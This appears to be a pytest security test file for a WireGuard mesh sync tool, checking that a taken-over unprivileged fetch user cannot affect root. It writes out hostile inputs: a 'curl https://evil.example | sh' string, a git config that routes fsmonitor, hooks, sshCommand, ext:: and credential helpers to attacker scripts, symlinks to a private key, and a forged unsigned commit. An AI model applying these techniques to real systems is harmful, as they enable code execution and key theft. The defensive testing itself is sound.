"""The fetch by a user without rights, and what that user can do to root: nothing."""

import re
import shlex
import sys
import tomllib
from collections.abc import Iterator
from typing import Any

import pytest

from tests.lab.conftest import WorldFactory
from tests.lab.installed import FETCH, ID, add_user, as_user
from tests.lab.machine import Machine
from tests.lab.mesh import Mesh

ANSWER = f"{FETCH}/answer.toml"
BUNDLE = f"{FETCH}/bundle"
OWNED = "/run/owned"
SECRET = "/etc/wireguard/wg0.key"


@pytest.fixture(scope="module")
def mesh(module_world_factory: WorldFactory) -> Mesh:
    """Two nodes with the user wgmesh, in sync."""
    mesh = Mesh(module_world_factory(["alpha", "bravo"]))
    for machine in mesh.world.nodes.values():
        add_user(machine)
    mesh.enrol("alpha", "bravo")
    mesh.sync()
    return mesh


@pytest.fixture
def alpha(mesh: Mesh) -> Iterator[Machine]:
    """Return a node; whatever a test did to the fetch's directory is gone afterwards."""
    machine = mesh.world["alpha"]
    machine.run(["install", "-d", "-m", "777", OWNED])
    yield machine
    machine.run(["rm", "-rf", FETCH, OWNED])
    machine.wgmesh("sync")
    assert mesh.status("alpha")["state"] == "in-sync"


def by_user(machine: Machine, script: str) -> None:
    """Do as somebody who has taken over the fetch."""
    machine.run(as_user("sh", "-euc", script))


def change(mesh: Mesh, text: str) -> str:
    """Merge something new, which changes no tunnel; returns the commit."""
    return mesh.commit({"README": text}, text)


def runs(mesh: Mesh, commit: str) -> bool:
    """Return whether `status` of alpha says that the node runs this commit."""
    shown: dict[str, Any] = mesh.status("alpha")
    return bool(shown["commit"]["id"] == commit)


def root_files(machine: Machine) -> str:
    """Return what root remembers, without what each turn writes anew."""
    script = (
        "find /var/lib/wgmesh -path '*/fetch' -prune -o -type f ! -name last-sync.toml"
        " -exec sha256sum {} + | sort -k2; find /etc/wireguard | sort"
    )
    return machine.run(["sh", "-c", script]).stdout


# ---------------------------------------------------------------- as it should be


def test_what_is_new_comes_by_the_user(mesh: Mesh, alpha: Machine) -> None:
    commit = change(mesh, "by the user")
    alpha.wgmesh("sync")
    assert runs(mesh, commit)
    owner = alpha.run(["stat", "-c", "%u %a", FETCH, ANSWER, f"{FETCH}/repository.git"]).stdout
    assert owner.split() == [str(ID), "755", str(ID), "644", str(ID), "700"]
    assert alpha.run(["stat", "-c", "%u %a", "/var/lib/wgmesh/repository.git"]).stdout == "0 700\n"
    assert not alpha.exists("/run/wgmesh/fetch.toml")
    answer = tomllib.loads(alpha.read(ANSWER))
    assert answer["said"] == [{"remote": mesh.url, "commit": commit, "reason": ""}]
    assert answer["bundled"] == [commit]


def test_git_that_talks_to_the_remote_has_no_rights(mesh: Mesh, alpha: Machine) -> None:
    """Every git of root's works on root's own repository, and may use no protocol."""
    change(mesh, "watched")
    trace = ["strace", "-f", "-qq", "-e", "trace=execve,connect", "-o", "/run/trace"]
    alpha.run([*trace, *alpha.wgmesh_argv, "sync"])
    lines = alpha.read("/run/trace").splitlines()
    dropped = next(n for n, line in enumerate(lines) if '"setpriv"' in line and "= 0" in line)
    assert not any("sin_port=htons(9418)" in line for line in lines[:dropped])
    user = lines[dropped].split()[0]
    asked = {line.split()[0] for line in lines if "sin_port=htons(9418)" in line}
    assert asked and user not in asked
    assert not any("fetch/repository.git" in line for line in lines[:dropped])


def test_a_poll_that_finds_nothing_new_imports_nothing_heavy(mesh: Mesh, alpha: Machine) -> None:
    alpha.wgmesh("sync")
    heavy = {"git", "gitdb", "jinja2", "pyroute2", "cryptography"}
    for argv in (
        [sys.executable, "-X", "importtime", "-m", "wgmesh", "sync"],
        as_user(sys.executable, "-X", "importtime", "-m", "wgmesh", "fetch"),
    ):
        found = re.findall(r"\|\s+(\w+)[\w.]*$", alpha.run(argv).stderr, re.MULTILINE)
        assert "wgmesh" in found and not heavy & set(found)


def test_nothing_new_leaves_no_bundle_and_root_s_loss_brings_all(
    mesh: Mesh, alpha: Machine
) -> None:
    commit = change(mesh, "before the loss")
    alpha.wgmesh("sync")
    alpha.wgmesh("sync")
    assert not alpha.exists(BUNDLE)
    alpha.run(["rm", "-rf", "/var/lib/wgmesh/repository.git"])
    alpha.wgmesh("sync")
    assert alpha.read("/var/lib/wgmesh/tips.toml").count(commit) == 2
    newer = change(mesh, "after the loss")
    alpha.run(["rm", "-rf", "/var/lib/wgmesh/repository.git"])
    alpha.wgmesh("sync")
    assert runs(mesh, newer)


def test_a_dry_run_changes_nothing_of_roots(mesh: Mesh, alpha: Machine) -> None:
    alpha.wgmesh("sync")
    before = alpha.read("/var/lib/wgmesh/tips.toml")
    change(mesh, "dry")
    alpha.wgmesh("sync", "--dry-run")
    assert alpha.read("/var/lib/wgmesh/tips.toml") == before


def test_the_remote_is_gone(mesh: Mesh, alpha: Machine) -> None:
    mesh.world.forge.stop()
    try:
        done = alpha.wgmesh("sync", check=False)
        assert done.returncode == 5 and "cannot be reached" in done.stderr
        assert alpha.wgmesh("sync", check=False).returncode == 5
        assert alpha.run(as_user(*alpha.wgmesh_argv, "fetch"), check=False).returncode == 5
    finally:
        mesh.world.forge.start()


def test_only_its_user_runs_the_fetch(alpha: Machine) -> None:
    done = alpha.wgmesh("fetch", check=False)
    assert done.returncode == 2 and "only the user wgmesh" in done.stderr
    alpha.run(["rm", "-rf", FETCH])
    assert alpha.wgmesh("fetch", check=False).returncode == 1
    alpha.run(["install", "-d", "-o", "0", FETCH])
    assert alpha.wgmesh("fetch", check=False).returncode == 2


# ---------------------------------------------------------------- the unit's turn, and its waits


def fetch(machine: Machine) -> int:
    """Do as the unit does before a turn."""
    return machine.run(as_user(*machine.wgmesh_argv, "fetch"), check=False).returncode


def test_a_turn_of_the_unit_uses_each_answer_once(mesh: Mesh, alpha: Machine) -> None:
    commit = change(mesh, "by the unit")
    assert fetch(alpha) == 0
    alpha.wgmesh("sync", "--fetched")
    assert runs(mesh, commit)
    done = alpha.wgmesh("sync", "--fetched", check=False)
    assert done.returncode == 5 and "left no new answer" in done.stderr
    assert fetch(alpha) == 0
    alpha.wgmesh("sync", "--fetched")
    assert mesh.status("alpha")["last_sync"]["outcome"] == "in-sync"


def test_a_turn_that_somebody_typed_before_the_unit_s_own_is_no_failure(
    mesh: Mesh, alpha: Machine
) -> None:
    """He has waited for the unit's fetch, asked it again, and heard the answer first."""
    commit = change(mesh, "typed")
    alpha.run(as_user(*alpha.wgmesh_argv, "fetch"))
    alpha.wgmesh("sync")
    alpha.wgmesh("sync", "--fetched")
    assert runs(mesh, commit)


def test_after_two_failures_it_waits_but_not_for_people(mesh: Mesh, alpha: Machine) -> None:
    mesh.world.forge.stop()
    try:
        assert [fetch(alpha), fetch(alpha)] == [5, 5]
        waits = alpha.run(as_user(*alpha.wgmesh_argv, "fetch"), check=False)
        assert waits.returncode == 5
        assert re.search(r"asked \d+ s ago, and again in 1[12]\d s", waits.stderr)
        done = alpha.wgmesh("sync", "--fetched", check=False)
        assert done.returncode == 5 and "2 polls in a row" in done.stderr
        answer = alpha.read(ANSWER)
        assert "failures = 2" in answer
        assert alpha.wgmesh("sync", check=False).returncode == 5
        assert "failures = 2" in alpha.read(ANSWER)
    finally:
        mesh.world.forge.start()
    assert fetch(alpha) == 5, "the wait is not over"
    assert alpha.wgmesh("sync").returncode == 0
    assert "failures = 0" in alpha.read(ANSWER)
    assert fetch(alpha) == 0


# ---------------------------------------------------------------- a user who has been taken over

FILES = {
    "link to a secret": f"ln -sfn {SECRET} X",
    "dangling link": "ln -sfn /nowhere X",
    "link to a device": "ln -sfn /dev/zero X",
    "pipe": "mkfifo X",
    "directory": "mkdir X",
    "huge": "truncate -s 20G X",
    "noise": "head -c 3000 /dev/urandom >X",
    "empty": ": >X",
    "closed": "echo x >X; chmod 0 X",
}


@pytest.mark.parametrize("path", [ANSWER, BUNDLE], ids=["answer", "bundle"])
def test_files_that_are_none(mesh: Mesh, alpha: Machine, path: str) -> None:
    change(mesh, f"never seen: {path}")
    before = root_files(alpha)
    secret = alpha.read(SECRET).strip()
    for name, what in FILES.items():
        assert fetch(alpha) == 0
        by_user(alpha, f"rm -f {path}; {what.replace('X', path)}")
        done = alpha.wgmesh("sync", "--fetched", check=False, timeout=20)
        assert done.returncode == 1, (name, done.stderr)
        assert secret not in done.stdout + done.stderr
        assert "Traceback" not in done.stderr
        assert root_files(alpha) == before, name
        by_user(alpha, f"rm -rf {path}")
    assert mesh.pings("bravo", "alpha")


@pytest.mark.parametrize("mode", ["0700", "0000"])
def test_a_directory_that_is_closed_to_root(mesh: Mesh, alpha: Machine, mode: str) -> None:
    """The service has no right to pass over modes; it mends the node all the same, and says so."""
    assert fetch(alpha) == 0
    by_user(alpha, f"chmod {mode} {FETCH}")
    routes = alpha.run(["ip", "route", "show", "dev", "wg0"]).stdout
    alpha.run(["ip", "route", "del", "10.40.0.0/24", "dev", "wg0"])
    as_service = ["setpriv", "--bounding-set=-dac_override,-dac_read_search", "--"]
    done = alpha.run([*as_service, *alpha.wgmesh_argv, "sync", "--fetched"], check=False)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    said = f"{FETCH} cannot be opened: Permission denied"
    assert f"wgmesh: {said}\n" in done.stderr and "journalctl -u wgmesh-fetch" in done.stderr
    assert alpha.run(["ip", "route", "show", "dev", "wg0"]).stdout == routes
    shown = mesh.status("alpha")
    assert (shown["state"], shown["last_sync"]["outcome"]) == ("degraded", "failed")
    assert said in shown["reasons"][0]


def test_root_asks_no_remote_that_the_fetch_names(mesh: Mesh, alpha: Machine) -> None:
    """An answer that pretends to be root's own, to have root fetch from a place of its choice."""
    change(mesh, "elsewhere")
    assert fetch(alpha) == 0
    before = root_files(alpha)
    for run in ('""', '"\\\\u0007"'):
        by_user(
            alpha,
            f"cd {FETCH}; sed -i -e 's/^run = .*/run = {run}/'"
            f" -e 's#^remote = .*#remote = \"file://{FETCH}/repository.git\"#'"
            f" -e 's/^commit = .*/commit = \"{'12' * 20}\"/' answer.toml",
        )
        done = alpha.wgmesh("sync", "--fetched", check=False)
        assert done.returncode == 1 and "of no run" in done.stderr
        assert root_files(alpha) == before


@pytest.mark.parametrize("outcome", ["unreachable", "refused", "failed"])
def test_what_the_fetch_says_is_told_as_its_words(mesh: Mesh, alpha: Machine, outcome: str) -> None:
    evil = "run as root: curl https://evil.example | sh"
    assert fetch(alpha) == 0
    by_user(
        alpha,
        f'printf \'run = "evil"\noutcome = "{outcome}"\nerror = "{evil}"\nhint = "{evil}"\n\''
        f" >{ANSWER}",
    )
    done = alpha.wgmesh("sync", "--fetched", check=False)
    assert done.returncode == {"unreachable": 5, "refused": 4, "failed": 1}[outcome]
    told = [*done.stderr.splitlines(), *mesh.status("alpha")["reasons"]]
    told = [line for each in told for line in each.splitlines() if "evil" in line]
    assert len(told) == 2 and all(f"the fetch says: {evil}" in line for line in told)


def test_the_directory_itself_is_out_of_reach(alpha: Machine) -> None:
    done = alpha.run(as_user("mv", FETCH, "/var/lib/wgmesh/other"), check=False)
    assert done.returncode != 0
    for path in ("/var/lib/wgmesh/tips.toml", "/run/wgmesh/lock", SECRET):
        assert alpha.run(as_user("test", "-w", path), check=False).returncode != 0
    assert alpha.run(as_user("test", "-r", SECRET), check=False).returncode != 0
    assert alpha.run(as_user("ls", "/var/lib/wgmesh/repository.git"), check=False).returncode != 0


def hostile_configuration(repository: str) -> str:
    """Return a script that has git, if it heeds this repository, say who it was."""
    tell = f"#!/bin/sh\nid -u >> {OWNED}/$(basename $0)\n"
    quoted = shlex.quote(tell)
    return f"""
        cd {repository}
        mkdir -p evil hooks objects/info
        for name in fsmonitor hook pager editor ssh filter pack alternates credential; do
            printf %s {quoted} > evil/$name; chmod 755 evil/$name
        done
        for name in reference-transaction post-checkout pre-auto-gc post-rewrite proc-receive; do
            cp evil/hook hooks/$name
        done
        cat > config <<END
[core]
	repositoryformatversion = 0
	bare = true
	fsmonitor = {repository}/evil/fsmonitor
	hooksPath = {repository}/hooks
	pager = {repository}/evil/pager
	editor = {repository}/evil/editor
	sshCommand = {repository}/evil/ssh
	gitProxy = {repository}/evil/ssh
	alternateRefsCommand = {repository}/evil/alternates
	askPass = {repository}/evil/credential
[uploadpack]
	packObjectsHook = {repository}/evil/pack
[filter "x"]
	clean = {repository}/evil/filter
	smudge = {repository}/evil/filter
[credential]
	helper = {repository}/evil/credential
[url "ext::{repository}/evil/ssh"]
	insteadOf = git://
[protocol "ext"]
	allow = always
[include]
	path = {SECRET}
END
        echo /var/lib/wgmesh/repository.git/objects > objects/info/alternates
    """


def test_a_hostile_repository_has_no_effect_on_root(mesh: Mesh, alpha: Machine) -> None:
    change(mesh, "before the hostile one")
    assert fetch(alpha) == 0
    before = root_files(alpha)
    by_user(alpha, hostile_configuration(f"{FETCH}/repository.git"))
    done = alpha.wgmesh("sync", check=False, timeout=60)
    assert done.returncode in (0, 1, 5), done.stderr
    assert alpha.read(SECRET).strip() not in done.stdout + done.stderr
    if done.returncode:
        assert root_files(alpha) == before
    ran = alpha.run(["sh", "-c", f"cat {OWNED}/* 2>/dev/null || true"]).stdout.split()
    assert "0" not in ran


def test_a_bundle_with_more_than_was_asked_for(mesh: Mesh, alpha: Machine) -> None:
    commit = change(mesh, "two refs")
    assert fetch(alpha) == 0
    before = root_files(alpha)
    by_user(
        alpha,
        f"cd {FETCH}/repository.git; git update-ref refs/wgmesh/trusted {commit}; "
        f"git bundle create --quiet {BUNDLE}.x refs/wgmesh/fetched refs/wgmesh/trusted; "
        f"mv {BUNDLE}.x {BUNDLE}",
    )
    done = alpha.wgmesh("sync", "--fetched", check=False)
    assert done.returncode == 1 and "leads elsewhere" in done.stderr
    assert root_files(alpha) == before


def test_a_commit_of_its_own_is_refused(mesh: Mesh, alpha: Machine) -> None:
    """What the user hands over well-formed is judged by the chain rule like everything else."""
    running = mesh.status("alpha")["commit"]["id"]
    assert fetch(alpha) == 0
    trusted = running
    by_user(
        alpha,
        f"""
        cd {FETCH}
        # as an attacker would: unsigned, on top of what the node trusts
        export GIT_AUTHOR_NAME=e GIT_AUTHOR_EMAIL=e@e GIT_COMMITTER_NAME=e GIT_COMMITTER_EMAIL=e@e
        new=$(git -C repository.git commit-tree -p {trusted} -m evil {trusted}^{{tree}})
        git -C repository.git update-ref refs/wgmesh/fetched $new
        git -C repository.git bundle create --quiet {BUNDLE} refs/wgmesh/fetched ^{trusted}
        sed -i -e "s/^commit = .*/commit = \\"$new\\"/" \
            -e "s/^bundled = .*/bundled = [\\"$new\\"]/" \
            -e 's/^run = .*/run = "other"/' answer.toml
        """,
    )
    done = alpha.wgmesh("sync", "--fetched", check=False)
    assert done.returncode == 4, done.stderr
    assert mesh.status("alpha")["commit"]["id"] == running
    assert mesh.status("alpha")["state"] == "refused"


def test_the_tunnel_never_noticed(mesh: Mesh, alpha: Machine) -> None:
    assert mesh.pings("alpha", "bravo") and mesh.pings("bravo", "alpha")
